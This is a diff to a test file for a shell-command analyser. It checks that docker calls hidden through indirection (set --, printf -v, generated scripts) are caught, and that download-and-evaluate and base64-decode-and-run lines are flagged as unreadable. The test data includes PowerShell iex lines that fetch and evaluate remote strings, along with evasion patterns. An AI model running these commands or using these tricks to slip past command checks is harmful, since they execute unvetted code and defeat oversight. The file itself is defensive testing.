@@ -40,6 +40,9 @@ it.each([
     `taskset 1 docker ${RUN}`,
   ],
   ...[`runuser -u x -- docker ${RUN}`, `runuser -c "docker ${RUN}"`, `pkexec docker ${RUN}`, `linux32 docker ${RUN}`],
+  ...[`set -- docker ${RUN}; "$@"`, `set -- docker; $1 ${RUN}`, `printf -v d docker; $d ${RUN}`],
+  ...[`printf -v d "%s%s" doc ker; $d ${RUN}`, `read -r d <<< docker; $d ${RUN}`],
+  ...[`echo "docker ${RUN}" > s.sh; sh s.sh`, `cat > s.sh <<EOF\ndocker ${RUN}\nEOF\nchmod +x s.sh; ./s.sh`],
 ])('%s', (text) => {
   expect(isSeen(text)).toBe(true);
 });
@@ -52,6 +55,8 @@ it.each([
   ["iex (New-Object Net.WebClient).DownloadString('https://example.com/x')", 'evaluated'],
   ['Invoke-Expression (Invoke-WebRequest https://example.com/x).Content', 'evaluated'],
   ['trap "$CLEAN" EXIT', 'evaluated'],
+  ['base64 -d x > s.sh; sh s.sh', 'decoded'],
+  ['echo ZG9j | base64 -d > a/s.sh; chmod +x a/s.sh; ./a/s.sh', 'decoded'],
   ['cmd /c $COMMAND', 'evaluated'],
 ])('%s is %s', (text, why) => {
   expect(unreadableIn(jobOf(text)).map((each) => each.why)).toEqual([why]);
@@ -80,6 +85,9 @@ it.each([
     'perl -pe "s/a/b/" x',
     'export PATH+=:/x',
     'for f in a b; do echo $f; done',
+    'make > a.sh; . a.sh',
+    'echo "A=$B" > .env; . .env',
+    'set -e; set -- a; echo $1',
     'Start-Process notepad',
   ],
 ])('%s is plain', (text) => {
